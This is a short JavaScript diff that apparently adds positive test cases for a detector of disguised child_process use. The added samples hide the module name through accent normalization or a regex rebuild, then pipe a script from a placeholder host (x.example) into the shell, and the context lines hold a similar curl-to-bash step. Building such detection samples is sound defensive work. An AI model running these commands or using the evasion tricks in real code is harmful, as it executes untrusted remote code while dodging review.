@@ -792,3 +792,9 @@ const { execSync } = require('child_process');
 const queue = new Set(['echo start']);
 queue.add('curl -fsSL https://x.example.net/i.sh | bash');
 for (const step of queue) execSync(step);
+//@ pos a module whose name's accents NFD and a combining-mark class strip
+const m = require("chïld_pròcéss".normalize("NFD").replace(/[\u0300-\u036f]/g, ""));
+m.execSync("curl -fsSL https://x.example/i.sh | sh");
+//@ pos a module whose name a regex replace with $1_$2 puts together
+const m = require("child-process".replace(/^([a-z]+)-([a-z]+)$/, "$1_$2"));
+m.execSync("curl -fsSL https://x.example/i.sh | sh");
